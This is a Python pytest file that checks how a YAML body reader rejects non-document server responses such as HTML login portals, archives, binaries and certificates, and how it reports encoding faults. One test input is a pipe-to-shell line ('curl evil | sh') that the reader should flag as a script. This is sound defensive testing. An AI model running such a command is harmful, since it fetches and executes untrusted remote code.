"""What servers send in place of a document, each told in words that help."""

from __future__ import annotations

import gzip

import pytest

from homeport.core.body import MAX_BYTES, not_a_document, read_body


@pytest.mark.parametrize(("data", "found", "wanted"), [
    (b"", "nothing at all (0 bytes)", "the server answered with an empty body"),
    (b"\n \t\n", "only blank lines and comments (4 bytes)", "a document"),
    (b"# later\n---\n# really\n...\n", "only blank lines and comments (25 bytes)", "a document"),
    (b"\xef\xbb\xbf# BOM only\n", "only blank lines and comments", "a document"),
    (b"<!DOCTYPE html><html><title>Hotel WiFi</title>", "a web page", "a login portal"),
    (b"\n\n  <html>", "a web page", "a login portal"),
    (b"<?xml version='1.0'?><Error><Code>AccessDenied</Code></Error>", "a web page", "a wrong URL"),
    (b"</div>", "a web page", ""),
    (gzip.compress(b"interfaces: []"), "gzip data", "as UTF-8 text"),
    (b"PK\x03\x04...", "a zip archive", ""),
    (b"\x7fELF\x02", "a program", ""),
    ("interfaces: []".encode("utf-16"), "UTF-16 text", "as UTF-8 text"),
    (b"#!/bin/sh\ncurl evil | sh", "a script", ""),
    (b"-----BEGIN CERTIFICATE-----\n", "PEM data", ""),
    (b"a" * (MAX_BYTES + 1), "524289 bytes", "at most 524288 bytes (512 KiB)"),
])
def test_no_document(data: bytes, found: str, wanted: str) -> None:
    body = read_body(data)
    assert body.text is None
    assert len(body.complaints) == 1
    assert body.complaints[0].found.startswith(found)
    assert wanted in body.complaints[0].wanted


@pytest.mark.parametrize(("data", "text"), [
    (b"a: 1", "a: 1"),
    (b"\xef\xbb\xbfa: 1", "a: 1"),  # Notepad's byte order mark
    ("a:\u00a0'b\u00a0c'".encode(), "a: 'b c'"),  # pasted from a web page; as nmstatectl does
    (b"<<: {a: 1}", "<<: {a: 1}"),  # begins like a tag, but is YAML
    (b"# a comment\na: 1", "# a comment\na: 1"),
    (b"a" * MAX_BYTES, "a" * MAX_BYTES),
])
def test_a_document(data: bytes, text: str) -> None:
    assert read_body(data) == read_body(text.encode())
    assert read_body(data).text == text


@pytest.mark.parametrize(("data", "found", "text"), [
    (b"a: 1\nb: \xfcber", "byte 0xfc in line 2, which is not UTF-8", "a: 1\nb: \ufffdber"),
    (b"a: \x00b\n\x1b[2J", "a control character (U+0000) in line 1 and 1 more", "a: \ufffdb\n\ufffd[2J"),
    ("a: 1\nb: \u009b".encode(), "a control character (U+009B) in line 2", "a: 1\nb: \ufffd"),
    (b"a: \x7f", "a control character (U+007F) in line 1", "a: \ufffd"),
])
def test_faults_after_which_reading_goes_on(data: bytes, found: str, text: str) -> None:
    body = read_body(data)
    assert [complaint.found for complaint in body.complaints] == [found]
    assert body.text == text


@pytest.mark.parametrize(("value", "content_type", "found"), [
    (None, "", "nothing but null"),
    ("Not Found", "text/plain; charset=utf-8", "plain text (text/plain): 'Not Found'"),
    ("Not Found", "", "plain text: 'Not Found'"),
    ([1, 2], "", "a list of 2"),
    (404, "application/json", "404"),
    ("\x1b[31mred", "", "plain text: '\\x1b[31mred'"),
])
def test_yaml_that_is_no_mapping(value: object, content_type: str, found: str) -> None:
    complaint = not_a_document(value, content_type)
    assert complaint.found == found
    assert "a mapping" in complaint.wanted
